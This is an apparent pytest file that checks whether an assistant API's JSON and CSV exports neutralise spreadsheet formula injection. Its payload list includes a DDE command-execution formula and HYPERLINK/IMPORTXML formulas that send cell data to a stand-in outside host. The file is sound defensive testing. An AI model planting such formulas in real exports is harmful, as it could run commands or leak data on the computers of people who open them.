"""Titles and words that a spreadsheet would run: no answer is one, and JSON keeps them text."""

import csv
import io
import json
import zipfile
from collections.abc import Callable
from typing import Any

import httpx
import pytest

from tests.attacks.routes import targets
from tests.corpus import a_channel, a_tenant
from tests.people import member
from tg_assistant.api.app import create_api
from tg_assistant.infra.runtime import Runtime
from tg_assistant.models import Channel, Role, Subscription

FORMULAS = (
    *(
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "=cmd|' /C calc'!A0",
        '","=1+1","',
        "\ufeff=1+1",
    ),
    *('=HYPERLINK("https://elsewhere.example/?q="&A1,"x")', '=IMPORTXML("https://elsewhere.example","//a")'),
)
ANNA = 880_001


@pytest.fixture(scope="module")
async def own(rt: Runtime, sign_in: Callable[..., Any]) -> dict[str, str]:
    """An admin around whom everything is a formula: channels, posts, questions, notes of invites."""
    where = await a_tenant(rt)
    async with rt.db.transaction() as db:
        anna = await member(db, where, ANNA, Role.admin)
    for formula in FORMULAS:
        channel = await a_channel(rt, where, [formula], number=ANNA + FORMULAS.index(formula))
        async with rt.db.transaction(where.id) as db:
            (await db.get_one(Channel, channel.id)).title = formula
            db.add(Subscription(user_id=anna.user_id, channel_id=channel.id, tenant_id=where.id))
    return await sign_in(ANNA)


async def test_in_the_export(http: httpx.AsyncClient, own: dict[str, str]) -> None:
    """Files of JSON and nothing else, in which each formula is a string as it was written."""
    for formula in FORMULAS:
        await http.post("/api/rag/query", json={"query": f"{formula} what"}, headers=own)
        made = await http.post("/api/admin/invites", json={"notes": formula}, headers=own)
        assert made.status_code == 201, made.text
    answer = await http.get("/api/users/me/export", headers=own)
    assert answer.headers["content-type"] == "application/zip"
    with zipfile.ZipFile(io.BytesIO(answer.content)) as archive:
        assert archive.testzip() is None
        files = {name: json.loads(archive.read(name)) for name in archive.namelist()}
    assert all(name.endswith(".json") for name in files)
    titles = {channel["title"] for channel in files["channels.json"]}
    assert titles >= set(FORMULAS)
    assert {asked["question"] for asked in files["questions.json"]} >= {
        f"{one} what".strip() for one in FORMULAS
    }


async def test_in_a_table_of_posts(http: httpx.AsyncClient, own: dict[str, str]) -> None:
    """Whoever asks for CSV gets cells that no spreadsheet runs: titles and texts begin with an apostrophe."""
    followed = (await http.get("/api/channels", headers=own)).json()["items"]
    assert {one["title"] for one in followed} >= set(FORMULAS)
    for one in followed:
        at = f"/api/channels/{one['id']}/export"
        answer = await http.get(at, params={"format": "csv"}, headers=own)
        [head, row] = csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline=""))
        cells = dict(zip(head, row, strict=True))
        plain = one["title"].startswith('"')  # a cell that is quoted already is no formula
        assert cells["channel"] == ("" if plain else "'") + one["title"]
        assert cells["text"].removeprefix("'").strip() == one["title"].strip()
        assert plain or cells["text"].startswith("'"), cells


async def test_no_answer_is_a_spreadsheet(http: httpx.AsyncClient, rt: Runtime, own: dict[str, str]) -> None:
    """Whatever a client says it likes best: lists come as JSON, and only the exports document more."""
    wanted = {**own, "Accept": "text/csv, application/vnd.ms-excel;q=0.9, text/tab-separated-values;q=0.8"}
    read = [target for target in targets(create_api(lambda: rt)) if target.method == "GET"]
    for target in read:
        if target.parameters or not target.path.startswith("/api/") or "export" in target.path:
            continue
        answer = await http.get(target.path, headers=wanted)
        kind = answer.headers["content-type"].partition(";")[0]
        assert kind in ("application/json", "application/problem+json"), (target, kind)
    paths = (await http.get("/openapi.json")).json()["paths"]
    document = json.dumps([paths[path] for path in paths if not path.endswith("/export")])
    assert "csv" not in document.lower() and "spreadsheet" not in document.lower()
